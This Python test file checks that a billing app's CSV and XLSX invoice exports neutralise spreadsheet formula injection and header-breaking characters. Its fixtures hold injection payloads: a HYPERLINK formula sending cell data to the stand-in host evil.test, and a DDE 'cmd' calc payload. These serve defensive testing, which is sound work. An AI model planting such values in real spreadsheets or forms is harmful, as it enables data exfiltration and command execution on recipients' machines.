"""CSV and XLSX exports write user text as text: no cell a spreadsheet would run."""

import csv
import io
from decimal import Decimal as D

import pytest
from django_scopes import scope
from openpyxl import load_workbook

from compliance.models import ComplianceRule, DocumentType
from compliance.services import compliance_settings
from invoices.exports import FORMULA_STARTS
from invoices.services import invoice_create
from tests.factories import BillingPeriodFactory, ContractFactory, SOVLineFactory, VendorFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.test/?d="&B3,"Click")'
HOSTILE = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
DOCUMENT_TYPE = "=SUM(1+1)"


@pytest.fixture
def invoice(company, project, admin):
    vendor = VendorFactory(company=company, name="@SUM(1+1)")
    contract = ContractFactory(
        project=project, vendor=vendor, number="=1+2", title="+cmd|' /C calc'!A0"
    )
    for position, description in enumerate(HOSTILE, start=1):
        SOVLineFactory(
            contract=contract,
            position=position,
            number=f"-{position}",
            description=description,
            scheduled_value=D("-100.00") if position == 3 else D("1000.00"),
        )
    with scope(company=company):
        invoice = invoice_create(
            contract=contract, period=BillingPeriodFactory(project=project), acting_user=admin
        )
        # A document type's name is user text too: the invoicing export's Compliance column
        # starts with it ("=SUM(1+1): missing").
        ComplianceRule.objects.create(
            settings=compliance_settings(project),
            document_type=DocumentType.objects.create(company=company, name=DOCUMENT_TYPE),
            gates_payment=True,
        )
    return invoice


def urls(invoice):
    contract = invoice.contract
    project = f"/acme/projects/{contract.project_id}"
    return [
        f"{project}/contracts/{contract.pk}/invoices/{invoice.pk}/export/",
        f"{project}/billing-periods/{invoice.period_id}/invoicing/export/",
    ]


@pytest.mark.parametrize("which", [0, 1], ids=["invoice", "invoicing"])
def test_csv_cells_never_start_like_a_formula(invoice, admin_client, which):
    response = admin_client.get(urls(invoice)[which] + "?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _number(cell)]
    # The user's text is all there, behind its quote.
    if which == 0:
        assert "'" + HYPERLINK in cells
        assert "'\t=1" in cells
        assert "-100.00" in cells  # a negative figure stays a number
    else:
        assert {"'=1+2", "'@SUM(1+1)", "'+cmd|' /C calc'!A0"} <= set(cells)
        assert "'=SUM(1+1): missing" in cells


@pytest.mark.parametrize("which", [0, 1], ids=["invoice", "invoicing"])
def test_xlsx_has_no_formula_and_keeps_numbers(invoice, admin_client, which):
    response = admin_client.get(urls(invoice)[which] + "?format=xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    if which == 0:
        assert HYPERLINK in texts
        assert "-1" in texts  # an item number is text, not a negative number
        g703 = workbook["G703"]
        assert g703.cell(4, 3).value == -100  # and a figure a number
        assert g703.cell(2, 3).value == 1000
    else:
        assert {"=1+2", "@SUM(1+1)", "=SUM(1+1): missing"} <= texts  # as typed, as text


def _number(text):
    try:
        D(text)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("which", [0, 1], ids=["invoice", "invoicing"])
def test_control_characters_and_quotes_in_user_text_still_export(
    company, invoice, admin_client, which, file_format
):
    """A contract number with a line break once broke the download's header (a 500), and a
    title with a control character the workbook (openpyxl refuses it)."""
    with scope(company=company):
        contract = invoice.contract
        contract.number, contract.title = 'SC-2\nX"; y', "Drywall\x01 and\x0b paint"
        contract.save(update_fields=["number", "title"])
    response = admin_client.get(urls(invoice)[which] + f"?format={file_format}")
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename=")
    assert "\n" not in disposition and '"; y' not in disposition
    if file_format == "xlsx":
        workbook = load_workbook(io.BytesIO(response.content))
        values = {cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row}
        if which == 1:
            assert "Drywall and paint" in values
